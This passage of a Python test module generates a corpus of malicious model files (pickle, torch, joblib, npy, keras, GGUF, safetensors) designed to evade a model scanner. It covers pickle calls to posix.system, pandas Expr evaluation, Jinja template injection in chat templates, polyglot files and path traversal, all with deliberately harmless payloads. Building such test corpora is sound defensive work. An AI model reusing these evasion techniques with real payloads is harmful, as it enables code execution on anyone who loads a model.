# ruff: noqa: E501 - a table of corpus entries reads best one entry per line
"""A corpus of malicious model files built by reading the scanner's code as an attacker would, generated on demand.

    >>> from pathlib import Path
    >>> from modelshield.testing.attack_corpus import write_attack_corpus
    >>> entries = write_attack_corpus(Path("attacks"))  # doctest: +SKIP
    >>> len(entries) >= 60  # doctest: +SKIP
    True

Each entry names the loader that runs its payload (see :mod:`modelshield.testing.oracle`, which confirms every
one by loading it for real), the family of technique, and the class of issue 14 it exercises: 1 callables on
neither of the policy's lists, 2 parsing that differs from the loader's, 3 text matching where structure is
needed, 4 false alarms (unused here). Nothing here ever runs a payload: files are assembled from raw pickle opcodes
and bytes, or written by the real libraries and then patched. Entries named ``r2.*`` are a second round,
written against the allowlist-first scanner: allowlisted callables that evaluate or load (pandas' ``Expr``,
joblib's side-file wrappers), callables passed as arguments, joblib array wrappers that a reconstructor makes,
joblib array bytes that ``pickle.load`` reads as opcodes, and pickles behind GGUF and safetensors magic. Entries named ``r3.*`` are a third round: allowlisted pandas classes that open any file through a ``dateutil/`` time-zone name, and TorchScript ``__setstate__`` code whose file access the scanner's reading misses. Payloads only run ``true``, read a system file,
write a file relative to the loader's working directory, or connect to a closed port on 127.0.0.1.
"""

from __future__ import annotations

import base64
import functools
import io
import json
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

__all__ = ["AttackEntry", "write_attack_corpus"]


@dataclass(frozen=True)
class AttackEntry:
    """One generated malicious file: its name, the loader that runs it, its family and issue class (1-4)."""

    name: str
    loader: str
    family: str
    klass: int


# -- raw pickle assembly -----------------------------------------------------------------------------------------


class _Global:
    """A ``module.name`` reference, written as a GLOBAL opcode (never imported here)."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


class _Call:
    """``func(*args)`` written as GLOBAL (or a nested call), the argument tuple, REDUCE."""

    def __init__(self, func: _Global | _Call, *args: object) -> None:
        self.func, self.args = func, args


_PURE_PICKLER: Any = pickle._Pickler  # the pure-Python pickler: its dispatch table takes new types


class _Pickler(_PURE_PICKLER):  # type: ignore[misc]
    dispatch: ClassVar[dict[type, Any]] = dict(_PURE_PICKLER.dispatch)

    def save_global_ref(self, obj: _Global) -> None:
        self.write(b"c" + obj.module.encode() + b"\n" + obj.name.encode() + b"\n")

    def save_call(self, obj: _Call) -> None:
        self.save(obj.func)
        self.save(tuple(obj.args))
        self.write(pickle.REDUCE)

    dispatch[_Global] = save_global_ref
    dispatch[_Call] = save_call


def _dumps(obj: object, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    _Pickler(buffer, protocol=protocol).dump(obj)
    return buffer.getvalue()


def _call(module: str, name: str, *args: object, protocol: int = 2) -> bytes:
    """A pickle that calls ``module.name(*args)`` on load."""
    return _dumps(_Call(_Global(module, name), *args), protocol)


def _v0_call(module: str, name: str, arg: str) -> bytes:
    """``module.name(arg)`` as a protocol-0 text pickle."""
    return f"c{module}\n{name}\n(V{arg}\ntR.".encode()


_TRUE = "true"
_READ = "/etc/passwd"  # a file outside every model folder; reading it is what the oracle watches for
_CLOSED = ("127.0.0.1", 9)  # the discard port on localhost: nothing listens, nothing leaves the machine


# -- class 1: callables on neither of the policy's lists -------------------------------------------------------


def _resolved_call(resolver: tuple[str, str], target: str, *args: object) -> bytes:
    """A resolver returns ``target`` (e.g. ``os.system``); the pickle then calls what it returned."""
    return _dumps(_Call(_Call(_Global(*resolver), target), *args))


def _legacy_torch(payload_at: int, payload: bytes) -> bytes:
    """A legacy (pre-1.6) ``torch.save`` stream of five pickles; the one at ``payload_at`` (1-5) is ``payload``."""
    pickles = [
        pickle.dumps(0x1950A86A20F9469CFC6C, 2),
        pickle.dumps(1001, 2),
        pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2
        ),
        pickle.dumps({}, 2),
        pickle.dumps([], 2),
    ]
    pickles[payload_at - 1] = payload
    return b"".join(pickles)


def _class1() -> dict[str, tuple[str, str, Callable[[], bytes]]]:
    nested_torch = _legacy_torch(4, _v0_call("posix", "system", _TRUE))
    return {
        "c1.logging-filehandler.pkl": (
            "pickle",
            "file writer",
            lambda: _call("logging", "FileHandler", "h1-logging.log"),
        ),
        "c1.logging-watched-filehandler.pkl": (
            "pickle",
            "file writer",
            lambda: _call("logging.handlers", "WatchedFileHandler", "h1-watched.log"),
        ),
        "c1.logging-rotating-filehandler.pkl": (
            "pickle",
            "file writer",
            lambda: _call("logging.handlers", "RotatingFileHandler", "h1-rotating.log"),
        ),
        "c1.wave-write.pkl": ("pickle", "file writer", lambda: _call("wave", "Wave_write", "h1.wav")),
        "c1.numpy-memmap-write.pkl": (
            "pickle",
            "file writer",
            lambda: _call("numpy", "memmap", "h1.dat", "uint8", "w+", 0, (4,)),
        ),
        "c1.numpy-open-memmap.pkl": (
            "pickle",
            "file writer",
            lambda: _call("numpy.lib.format", "open_memmap", "h1-open.npy", "w+", "u1", (1,)),
        ),
        "c1.numpy-save.pkl": ("pickle", "file writer", lambda: _call("numpy", "save", "h1-save.npy", 0)),
        "c1.joblib-dump.pkl": ("pickle", "file writer", lambda: _call("joblib", "dump", 0, "h1.joblib")),
        "c1.joblib-binary-zlib-file.pkl": (
            "pickle",
            "file writer",
            lambda: _call("joblib.compressor", "BinaryZlibFile", "h1.z", "wb"),
        ),
        "c1.torch-save-native.pkl": ("pickle", "file writer", lambda: _call("torch", "save", {}, "h1-torch.pt")),
        "c1.zipapp-create.pkl": (
            "pickle",
            "file writer",
            lambda: _call("zipapp", "create_archive", "/etc/hostname", "h1.pyz"),
        ),
        "c1.xml-minidom-parse.pkl": ("pickle", "file reader", lambda: _call("xml.dom.minidom", "parse", _READ)),
        "c1.xml-etree-parse.pkl": ("pickle", "file reader", lambda: _call("xml.etree.ElementTree", "parse", _READ)),
        "c1.xml-pulldom-parse.pkl": ("pickle", "file reader", lambda: _call("xml.dom.pulldom", "parse", _READ)),
        "c1.mimetypes-read.pkl": ("pickle", "file reader", lambda: _call("mimetypes", "read_mime_types", _READ)),
        "c1.netrc-read.pkl": ("pickle", "file reader", lambda: _call("netrc", "netrc", _READ)),
        "c1.filecmp-read.pkl": ("pickle", "file reader", lambda: _call("filecmp", "cmp", _READ, _READ, False)),
        "c1.tabnanny-check.pkl": ("pickle", "file reader", lambda: _call("tabnanny", "check", _READ)),
        "c1.pstats-read.pkl": ("pickle", "file reader", lambda: _call("pstats", "Stats", _READ)),
        "c1.numpy-fromfile.pkl": ("pickle", "file reader", lambda: _call("numpy", "fromfile", _READ, "u1")),
        "c1.numpy-loadtxt.pkl": ("pickle", "file reader", lambda: _call("numpy", "loadtxt", _READ, str, "#", "\x00")),
        "c1.numpy-genfromtxt.pkl": ("pickle", "file reader", lambda: _call("numpy", "genfromtxt", _READ, str)),
        "c1.pandas-read-table.pkl": ("pickle", "file reader", lambda: _call("pandas", "read_table", _READ)),
        "c1.pandas-read-fwf.pkl": ("pickle", "file reader", lambda: _call("pandas", "read_fwf", _READ)),
        "c1.pandas-read-table-url.pkl": (
            "pickle",
            "url fetcher",
            lambda: _call("pandas", "read_table", "http://127.0.0.1:9/x.csv"),
        ),
        "c1.torch-model-zoo-load-url.pkl": (
            "pickle",
            "url fetcher",
            lambda: _call("torch.utils.model_zoo", "load_url", "http://127.0.0.1:9/x.pt"),
        ),
        "c1.logging-syslog-udp.pkl": (
            "pickle",
            "network",
            lambda: _call("logging.handlers", "SysLogHandler", ("localhost", 9)),
        ),
        "c1.sklearn-reexport-listener.pkl": (
            "pickle",
            "library-class re-export",
            lambda: _call("sklearn.callback._transport", "Listener", ("127.0.0.1", 0)),
        ),
        "c1.sklearn-reexport-client.pkl": (
            "pickle",
            "library-class re-export",
            lambda: _call("sklearn.callback._transport", "Client", _CLOSED),
        ),
        "c1.sklearn-reexport-threadpoolctl.pkl": (
            "pickle",
            "library-class re-export",
            lambda: _call("sklearn.utils.parallel", "ThreadpoolController"),
        ),
        "c1.logging-dictconfig-factory.pkl": (
            "pickle",
            "stdlib resolver",
            lambda: _call(
                "logging.config",
                "dictConfig",
                {"version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": _TRUE}}},
            ),
        ),
        "c1.logging-config-resolve.pkl": (
            "pickle",
            "stdlib resolver",
            lambda: _resolved_call(("logging.config", "_resolve"), "posix.system", _TRUE),
        ),
        "c1.torch-import-dotted-name.pkl": (
            "pickle",
            "library resolver",
            lambda: _resolved_call(("torch._utils", "_import_dotted_name"), "posix.system", _TRUE),
        ),
        "c1.sympy-sympify.pkl": (
            "pickle",
            "evaluator",
            lambda: _call("sympy", "sympify", "__import__('posix').system('true')"),
        ),
        "c1.sympy-parse-expr.pkl": (
            "pickle",
            "evaluator",
            lambda: _call("sympy.parsing.sympy_parser", "parse_expr", "__import__('posix').system('true')"),
        ),
        "c1.torch-load-from-bytes.pkl": (
            "pickle",
            "nested deserialiser",
            lambda: _call("torch.storage", "_load_from_bytes", nested_torch),
        ),
        "c1.import-antigravity.pkl": (
            "pickle",
            "import side effect",
            lambda: _dumps(_Global("antigravity", "geohash")),
        ),
        "c1.import-this.pkl": ("pickle", "import side effect", lambda: _dumps(_Global("this", "s"))),
    }


# -- class 2: parsing that differs from the loader's -----------------------------------------------------------

_V7_FIELDS = (100, 8, 8, 8, 12, 12)


def _v7_tar(members: dict[str, bytes]) -> bytes:
    """A tar archive in the old V7 layout: no ``ustar`` magic, which tarfile (and torch) still read."""
    out = bytearray()
    for name, data in members.items():
        header = bytearray(512)
        header[0 : len(name)] = name.encode()
        header[100:108] = b"0000644\x00"
        header[108:116] = b"0000000\x00"
        header[116:124] = b"0000000\x00"
        header[124:136] = f"{len(data):011o}\x00".encode()
        header[136:148] = b"00000000000\x00"
        header[156] = ord("0")
        header[148:156] = b" " * 8
        checksum = sum(header)
        header[148:156] = f"{checksum:06o}\x00 ".encode()
        out += header + data + bytes(-len(data) % 512)
    return bytes(out + bytes(1024))


def _npy(descr: str, payload: bytes, version: int = 1) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    prefix = 10 if version == 1 else 12
    header = header.ljust(((prefix + len(header) + 1 + 63) // 64) * 64 - prefix - 1) + b"\n"
    size = struct.pack("<H", len(header)) if version == 1 else struct.pack("<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + size + header + payload


def _lz4(data: bytes) -> bytes:
    import lz4.frame  # type: ignore[import-untyped]

    return bytes(lz4.frame.compress(data))


def _joblib_dtype_desync() -> bytes:
    """A joblib array whose dtype is spelled ``float64``: joblib reads 8 bytes of data, a reader that cannot size
    the dtype reads them as opcodes (``N.``: a complete pickle) and never sees the payload that follows."""
    import joblib
    import numpy as np

    buffer = io.BytesIO()
    joblib.dump([np.zeros(1)], buffer)
    data = buffer.getvalue()
    data = data.replace(b"\x8c\x02f8", b"\x8c\x07float64", 1)
    raw = bytes(8)
    k = data.index(raw, data.index(b"float64"))
    # the padding-length byte and padding stay; the 8 data bytes read "None, STOP" to a naive walker
    data = data[:k] + b"N." + bytes(6) + data[k + 8 :]
    # after the array, joblib's unpickler carries on with the outer list: put a call there before it ends
    tail = data.rindex(b".")
    payload = b"cposix\nsystem\n(Vtrue\ntR0"
    return data[:tail] + payload + data[tail:]


def _class2() -> dict[str, tuple[str, str, Callable[[], bytes]]]:
    body = _v0_call("posix", "system", _TRUE)
    escaped_s = b"S'po\\x73ix'\nS'sys\\x74em'\n\x93(S'true'\ntR."
    escaped_v = b"V\\u0070osix\nV\\u0073ystem\n\x93(Vtrue\ntR."
    frame = _call("posix", "system", _TRUE, protocol=4)[2:]  # no PROTO: the FRAME opcode first
    return {
        "c2.headerless-global-first.pkl": ("pickle", "pickle without a header", lambda: body),
        "c2.headerless-trailing-junk.pkl": ("pickle", "pickle without a header", lambda: body + b"\x00junk"),
        "c2.headerless-frame-first.pkl": ("pickle", "pickle without a header", lambda: frame + b"\n"),
        "c2.headerless-pop-prefix.pkl": ("pickle", "pickle without a header", lambda: b"I1\n0" + body + b"\n"),
        "c2.headerless-binary-body.pkl": (
            "pickle",
            "pickle without a header",
            lambda: _call("posix", "system", _TRUE)[2:] + b"\x00",
        ),
        "c2.headerless-torch.pt": ("torch", "pickle without a header", lambda: body + b"\x00" * 7),
        "c2.string-escapes-stack-global.pkl": ("pickle", "protocol-0 string escapes", lambda: escaped_s),
        "c2.unicode-escapes-stack-global.pkl": ("pickle", "protocol-0 string escapes", lambda: escaped_v),
        "c2.legacy-torch-payload-2nd.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(2, body)),
        "c2.legacy-torch-payload-3rd.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(3, body)),
        "c2.legacy-torch-payload-4th.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(4, body)),
        "c2.legacy-torch-payload-5th.pt": ("torch", "stacked legacy torch pickles", lambda: _legacy_torch(5, body)),
        "c2.v7-tar-storages.tar": (
            "torch",
            "tar without ustar magic",
            lambda: _v7_tar({"storages": body, "tensors": pickle.dumps(0, 2), "pickle": pickle.dumps({}, 2)}),
        ),
        "c2.v7-tar-tensors.tar": (
            "torch",
            "tar without ustar magic",
            lambda: _v7_tar({"storages": pickle.dumps(0, 2), "tensors": body, "pickle": pickle.dumps({}, 2)}),
        ),
        "c2.v7-tar-pickle.tar": (
            "torch",
            "tar without ustar magic",
            lambda: _v7_tar({"storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2), "pickle": body}),
        ),
        "c2.npy-descr-O.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'O'", body)),
        "c2.npy-descr-object.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'object'", body)),
        "c2.npy-descr-O8.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'O8'", body)),
        "c2.npy-descr-little-O.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'<O'", body)),
        "c2.npy-structured-object-field.npy": (
            "numpy",
            "npy object dtype spelling",
            lambda: _npy("[('a', '<i4'), ('b', 'O')]", body),
        ),
        "c2.npy-descr-O-version3.npy": ("numpy", "npy object dtype spelling", lambda: _npy("'O'", body, version=3)),
        "c2.npz-descr-O.npz": ("numpy", "npy object dtype spelling", lambda: _zip({"w.npy": _npy("'O'", body)})),
        "c2.joblib-lz4.joblib": ("joblib", "joblib lz4", lambda: _lz4(_call("posix", "system", _TRUE))),
        "c2.joblib-lz4-in-dict.joblib": (
            "joblib",
            "joblib lz4",
            lambda: _lz4(_dumps({"coef": [1.0, 2.0], "x": _Call(_Global("posix", "system"), _TRUE)})),
        ),
        "c2.joblib-dtype-desync.joblib": ("joblib", "joblib array desync", _joblib_dtype_desync),
    }


# -- class 3: text matching where structure is needed ----------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def _lambda_code() -> str:
    """The base64 marshal of a function body that runs ``true`` (compiled, never called here)."""
    source = "lambda x: (__import__('posix').system('true'), x)[1]"
    code = compile(source, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _lambda_config() -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"},
                    "registered_name": None,
                },
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": _lambda_code(), "defaults": None, "closure": None},
                        },
                        "arguments": {},
                    },
                    "registered_name": None,
                },
            ],
        },
        "registered_name": None,
    }


def _escape(text: str, words: tuple[str, ...]) -> str:
    for word in words:
        text = text.replace(f'"{word}"', '"' + "".join(f"\\u{ord(c):04x}" for c in word[:1]) + word[1:] + '"')
    return text


def _keras(config_text: str, *, weights: bool) -> bytes:
    members = {"metadata.json": json.dumps({"keras_version": "3.15.1"}).encode(), "config.json": config_text.encode()}
    if weights:
        members["model.weights.h5"] = _empty_h5()
    return _zip(members)


def _empty_h5() -> bytes:
    import h5py  # type: ignore[import-untyped]

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.create_group("layers")
    return buffer.getvalue()


def _h5_model(config_text: str) -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.attrs["model_config"] = config_text
        f.attrs["keras_version"] = "3.15.1"
        f.attrs["backend"] = "torch"
        f.create_group("model_weights")
    return buffer.getvalue()


def _gguf(template: str) -> bytes:
    def string(s: str) -> bytes:
        data = s.encode()
        return struct.pack("<Q", len(data)) + data

    kv = [
        string("general.architecture") + struct.pack("<I", 8) + string("llama"),
        string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template),
    ]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv)) + b"".join(kv)


_GGUF_TEMPLATES = {
    "attr-concat": "{% set g = cycler|attr('_'~'_init_'~'_')|attr('_'~'_glob'~'als_'~'_') %}{{ (g['o'~'s']|attr('po'~'pen'))('true')|attr('read')() }}",
    "attr-escapes": "{{ ((namespace|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['o\\x73']|attr('popen'))('true')|attr('read')() }}",
    "dict-join-names": "{% set i = dict(_=1)|join ~ dict(_init=1)|join ~ dict(__=1)|join %}{% set gl = dict(__glob=1)|join ~ dict(als__=1)|join %}{{ ((lipsum|attr(gl))['o'~'s']|attr('sys'~'tem'))('true') }}",
    "subscript-concat": "{% for m in messages %}{{ m.content }}{% endfor %}{{ (range|attr('mro') if false else lipsum)['_'+'_glo'+'bals__']['o'+'s']['po'+'pen']('true')['re'+'ad']() }}",
    "format-names": "{% set n = '%c%cglobals%c%c'|format(95,95,95,95) %}{{ (lipsum|attr(n)).get('o'+'s')|attr('system') }}{{ ((lipsum|attr(n)).get('o'+'s')|attr('system'))('true') }}",
    "loop-built-name": "{% set parts = ['__', 'glo', 'bals', '__'] %}{% set g = lipsum|attr(parts|join) %}{% set o = g|attr('get') %}{{ (o('o'~'s')|attr('popen'))('true')|attr('read')() }}",
}


def _class3() -> dict[str, tuple[str, str, Callable[[], bytes]]]:
    lambda_text = json.dumps(_lambda_config())
    entries: dict[str, tuple[str, str, Callable[[], bytes]]] = {
        "c3.keras-lambda-no-weights.keras": (
            "keras-unsafe",
            "keras archive without weights",
            lambda: _keras(lambda_text, weights=False),
        ),
        "c3.keras-lambda-escaped.keras": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _keras(_escape(lambda_text, ("Lambda", "__lambda__")), weights=True),
        ),
        "c3.keras-lambda-escaped-no-weights.keras": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _keras(_escape(lambda_text, ("Lambda",)), weights=False),
        ),
        "c3.keras-lambda-escaped.h5": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _h5_model(_escape(lambda_text, ("Lambda", "__lambda__"))),
        ),
        "c3.keras-lambda-split-key.h5": (
            "keras-unsafe",
            "keras json escapes",
            lambda: _h5_model(lambda_text.replace('"class_name": "Lambda"', '"class_name" :\n "Lambda"')),
        ),
    }
    for name, template in _GGUF_TEMPLATES.items():
        entries[f"c3.gguf-{name}.gguf"] = (
            "gguf-template",
            "gguf computed attribute names",
            functools.partial(_gguf, template),
        )
    return entries


# -- second round: an attacker who has read the allowlist-first scanner -------------------------------------------


class _Build:
    """``obj`` then ``state`` then BUILD: state applied to what ``obj`` made."""

    def __init__(self, obj: object, state: object) -> None:
        self.obj, self.state = obj, state


class _Raw:
    """Bytes written into the stream as they are (array data that joblib reads raw)."""

    def __init__(self, data: bytes) -> None:
        self.data = data


def _save_build(pickler: Any, obj: _Build) -> None:
    pickler.save(obj.obj)
    pickler.save(obj.state)
    pickler.write(pickle.BUILD)


def _save_raw(pickler: Any, obj: _Raw) -> None:
    pickler.write(obj.data)


_Pickler.dispatch[_Build] = _save_build
_Pickler.dispatch[_Raw] = _save_raw

_EXPR = ("pandas.core.computation.expr", "Expr")
# pandas' expression evaluator resolves names in the globals of the frame that called it, then calls what it finds;
# the loader's own frames hold ``os`` or ``sys``.
_OS_CALL = "os.system('true')"
_SYS_CALL = "sys.modules.get('posix').system('true')"
_PAYLOAD = b"cposix\nsystem\n(Vtrue\ntR"  # a protocol-0 call without its STOP


def _expr_object(expression: str, *args: object) -> object:
    """An object that pickles (through the real libraries' picklers) as ``Expr(expression, *args)``."""
    from pandas.core.computation.expr import Expr

    class _Reduces:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return (Expr, (expression, *args))

    return _Reduces()


def _torch_save(obj: object) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _joblib_dump(obj: object) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(obj, buffer)
    return buffer.getvalue()


def _npy_object(obj: object) -> bytes:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = obj
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _wrapper_state(count: int, *, align: bool = False) -> dict[str, object]:
    """A joblib NumpyArrayWrapper's state for ``count`` uint8 values (joblib reads them raw after the BUILD)."""
    state: dict[str, object] = {
        "subclass": _Global("numpy", "ndarray"),
        "shape": (count,),
        "order": "C",
        "dtype": _Call(_Global("numpy", "dtype"), "u1", False, True),
        "allow_mmap": False,
    }
    if align:
        state["numpy_array_alignment_bytes"] = 16
    return state


_WRAPPER = _Global("joblib.numpy_pickle", "NumpyArrayWrapper")


def _wrapper_made_by(maker: _Call) -> bytes:
    """A NumpyArrayWrapper that a reconstructor makes (not a call of the class itself): joblib still reads two raw
    bytes after its BUILD; a walker that does not recognise the wrapper reads them as a bytes opcode over the
    payload that joblib then runs."""
    body = _PAYLOAD + b"0"
    return _dumps([_Build(maker, _wrapper_state(2)), _Raw(b"C" + bytes([len(body)]) + body)])


def _wrapper_pickle_view(*, align: bool) -> bytes:
    """A joblib array whose raw bytes, read by ``pickle.load`` (or torch's legacy path) as opcodes, jump into a
    bytes constant of the outer stream that joblib and the scanner read as data, and run what it holds."""
    count = 6
    body = _PAYLOAD + b"0"
    wrapper = _Call(_WRAPPER, _Global("numpy", "ndarray"), (count,), "C", _Call(_Global("numpy", "dtype"), "u1"))
    if align:
        # padding length 78 ('N'): joblib skips 78 bytes; pickle.load reads NONE, then the padding as opcodes
        padding = body + b"C" + bytes([78 - len(body) - 2 + count])
        raw = b"N" + padding.ljust(78, b"\x00") + bytes(count)
        return _dumps([_Build(wrapper, _wrapper_state(count, align=True)), _Raw(raw)])
    data = b"C" + bytes([count]) + bytes(count - 2)  # covers the rest of the data and the constant's own header
    return _dumps([_Build(wrapper, _wrapper_state(count)), _Raw(data + b"C" + bytes([len(body)]) + body)])


def _side_file(path: str, cls: str = "NDArrayWrapper") -> bytes:
    """joblib's pre-0.10 array wrappers name a side file that joblib opens relative to the model (absolute paths
    and ``..`` included) and reads with ``numpy.load(allow_pickle=True)`` or its zlib reader."""
    wrapper = _Call(
        _Global("copyreg", "_reconstructor"), _Global("joblib.numpy_pickle", cls), _Global("builtins", "object"), None
    )
    state: dict[str, object] = {"filename": path, "subclass": _Global("numpy", "ndarray"), "allow_mmap": False}
    if cls == "ZNDArrayWrapper":
        state = {"filename": path, "init_args": (_Global("numpy", "ndarray"), (0,), "b"), "state": None}
    return _dumps([_Build(wrapper, state)])


def _gguf_polyglot() -> bytes:
    """``GGUF`` magic that is also a pickle: ``G`` is BINFLOAT, which swallows the version; then POP and a call."""
    return b"GGUF\x03\x00\x00\x00\x00" + b"0" + _PAYLOAD + b"."


def _safetensors_polyglot() -> bytes:
    """A safetensors header length whose first byte is BINFLOAT (``G``): it swallows the rest of the length and the
    ``{``; then the pickle runs. The JSON header lies past the first 4 KiB, so the identifier never parses it."""
    size = 0x2047
    head = struct.pack("<Q", size) + b"{"
    body = b"0" + _PAYLOAD + b"."
    return head + body + b" " * (size + 8 - len(head) - len(body)) + b"}"


def _round2() -> dict[str, tuple[int, str, str, Callable[[], bytes]]]:
    expr_inst = b"(S'os.system(\"true\")'\nipandas.core.computation.expr\nExpr\n."
    return {
        "r2.pandas-expr-eval.pkl": (1, "pickle", "allowlisted evaluator", lambda: _call(*_EXPR, _OS_CALL)),
        "r2.pandas-expr-python-parser.pkl": (
            1,
            "pickle",
            "allowlisted evaluator",
            lambda: _call(*_EXPR, "subprocess.getoutput('true')", "python", "python"),
        ),
        "r2.pandas-expr-sys-modules.pkl": (1, "pickle", "allowlisted evaluator", lambda: _call(*_EXPR, _SYS_CALL)),
        "r2.pandas-expr-inst-opcode.pkl": (1, "pickle", "allowlisted evaluator", lambda: expr_inst),
        "r2.pandas-expr-torch-zip.pt": (
            1,
            "torch",
            "allowlisted evaluator",
            lambda: _torch_save({"w": [1.0], "cfg": _expr_object(_SYS_CALL)}),
        ),
        "r2.pandas-expr-legacy-torch-4th.pt": (
            1,
            "torch",
            "allowlisted evaluator",
            lambda: _legacy_torch(4, expr_inst),
        ),
        "r2.pandas-expr-joblib.joblib": (
            1,
            "joblib",
            "allowlisted evaluator",
            lambda: _joblib_dump({"coef": [1.0], "x": _expr_object(_SYS_CALL)}),
        ),
        "r2.pandas-expr-joblib-lz4.joblib": (
            1,
            "joblib",
            "allowlisted evaluator",
            lambda: _lz4(_call(*_EXPR, _SYS_CALL)),
        ),
        "r2.pandas-expr-npy-object.npy": (
            1,
            "numpy",
            "allowlisted evaluator",
            lambda: _npy_object(_expr_object(_SYS_CALL, "pandas", "pandas", None, 2)),  # level 2: np.load's caller
        ),
        "r2.torch-rebuild-from-type-callable-arg.pkl": (
            1,
            "pickle",
            "callable taken from arguments",
            lambda: _call(
                "torch._tensor",
                "_rebuild_from_type_v2",
                _Global(*_EXPR),
                _Global("torch", "Tensor"),
                (_OS_CALL, "pandas", "pandas", None, 1),
                {},
            ),
        ),
        "r2.joblib-ndarraywrapper-abs-path.joblib": (
            1,
            "joblib",
            "joblib side-file loader",
            lambda: _side_file(_READ),
        ),
        "r2.joblib-ndarraywrapper-traversal.joblib": (
            1,
            "joblib",
            "joblib side-file loader",
            lambda: _side_file("../" * 12 + _READ.lstrip("/")),
        ),
        "r2.joblib-zndarraywrapper-abs-path.joblib": (
            1,
            "joblib",
            "joblib side-file loader",
            lambda: _side_file(_READ, "ZNDArrayWrapper"),
        ),
        "r2.joblib-wrapper-reconstructor-desync.joblib": (
            2,
            "joblib",
            "joblib array wrapper made indirectly",
            lambda: _wrapper_made_by(
                _Call(_Global("copyreg", "_reconstructor"), _WRAPPER, _Global("builtins", "object"), None)
            ),
        ),
        "r2.joblib-wrapper-newobj-desync.joblib": (
            2,
            "joblib",
            "joblib array wrapper made indirectly",
            lambda: _wrapper_made_by(_Call(_Global("copyreg", "__newobj__"), _WRAPPER)),
        ),
        "r2.joblib-array-data-pickle-view.pkl": (
            2,
            "pickle",
            "joblib array bytes read as opcodes",
            lambda: _wrapper_pickle_view(align=False),
        ),
        "r2.joblib-array-padding-pickle-view.pkl": (
            2,
            "pickle",
            "joblib array bytes read as opcodes",
            lambda: _wrapper_pickle_view(align=True),
        ),
        "r2.joblib-array-data-torch-view.pt": (
            2,
            "torch",
            "joblib array bytes read as opcodes",
            lambda: _wrapper_pickle_view(align=False),
        ),
        "r2.gguf-pickle-polyglot.pkl": (2, "pickle", "polyglot claimed by another format", _gguf_polyglot),
        "r2.gguf-pickle-polyglot-torch.gguf": (2, "torch", "polyglot claimed by another format", _gguf_polyglot),
        "r2.gguf-pickle-polyglot-joblib.gguf": (2, "joblib", "polyglot claimed by another format", _gguf_polyglot),
        "r2.safetensors-pickle-polyglot.pkl": (
            2,
            "pickle",
            "polyglot claimed by another format",
            _safetensors_polyglot,
        ),
    }


# -- third round: allowlisted data classes that open files, and TorchScript code the scanner does not read --------

# pandas resolves a time-zone name that starts with ``dateutil/`` through ``dateutil.tz.gettz``, which opens any
# absolute path it is given (a tz-aware dtype, index or timestamp being rebuilt is enough).
_TZ = "dateutil/" + _READ
_TZ_DTYPE = f"datetime64[ns, {_TZ}]"


def _torch_zip_with(data_pkl: bytes) -> bytes:
    """A ``torch.save`` zip archive whose ``data.pkl`` is replaced by ``data_pkl``."""
    source = zipfile.ZipFile(io.BytesIO(_torch_save({"w": [1.0]})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for info in source.infolist():
            data = data_pkl if info.filename.endswith("/data.pkl") else source.read(info)
            zf.writestr(info.filename, data)
    return out.getvalue()


# A TorchScript module whose ``__setstate__`` (run by torch.jit.load while it unpickles data.pkl) maps a file in the
# loader's working directory, creating it: ``torch.from_file(name, shared=True, size)``.
_TS_CALL = 'torch.from_file("r3-torchscript.bin", True, 8)'
_TS_CODE = (
    "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
    "  _is_full_backward_hook : Optional[bool]\n  x : int\n"
    "  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    return x\n"
    "  def __getstate__(self: __torch__.M) -> Tuple[int, bool]:\n    x = self.x\n    training = self.training\n"
    "    return (x, training)\n"
    "  def __setstate__(self: __torch__.M,\n    state: Tuple[int, bool]) -> NoneType:\n"
    "    self.x = (state)[0]\n    self.training = (state)[1]\n"
    f"    _0 = {_TS_CALL}\n    self.x = torch.numel(_0)\n    return None\n"
)


def _torchscript(call: str = _TS_CALL, code_name: str = "archive/code/__torch__.py") -> bytes:
